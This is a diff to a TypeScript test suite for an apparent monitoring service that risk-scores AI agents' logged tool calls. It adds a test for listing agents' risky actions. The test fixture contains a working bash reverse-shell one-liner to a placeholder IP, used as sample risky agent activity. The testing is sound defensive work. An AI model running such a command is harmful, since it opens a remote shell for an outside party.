@@ -57,6 +57,7 @@ const ASKED = (): Record<string, object> => ({
   get_session: { session: HOSTILE_NAME },
   explain_risk: { id: hostileId },
   list_agents: {},
+  list_risky_actions: { min_risk: 1 },
   get_stats: { range: '1h' },
   validate_rule: { text: RULE.replaceAll('contains', MARKER) },
   backtest_rule: { text: RULE },
@@ -276,8 +277,36 @@ test('each call is logged by the system itself and not evaluated by rules', asyn
   expect(results[0]?.risk).toBeGreaterThan(0)
 })
 
+test('a tool tells who did what risky since a time, the riskiest first, with exact counts and verdicts', async () => {
+  const org = mesh.second
+  const { agent } = org
+  const command = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'
+  const call = (sender: string, payload: string) => ({ sender, kind: 'tool_call', context: 'shell_command', payload })
+  await agent.post('/api/v1/logs', [
+    call('agent.risky', command),
+    call('agent.risky', `${command} `),
+    call('agent.calm', 'ls'),
+  ])
+  await using asking = await client(org)
+  const since = new Date(Date.now() - 3_600_000).toISOString()
+  const { data } = await asking.call('list_risky_actions', { since })
+  expect(data).toMatchObject({
+    agents: [
+      {
+        risky_entries: 2,
+        actions: [
+          { verdict: null, would: null, unjudged: false },
+          { verdict: null, would: null, unjudged: false },
+        ],
+      },
+    ],
+    more_agents: false,
+  })
+  expect(JSON.stringify(data)).not.toContain('agent.calm')
+})
+
 test('a search finds earlier searches only if it asks for them', async () => {
-  await using asking = await client()
+  await using asking = await client(mesh.second)
   await asking.call('get_stats')
   expect(JSON.stringify((await asking.call('search_logs')).data)).not.toContain('"key.')
   const found = async (query: string) => (await asking.call('search_logs', { query })).data['total']
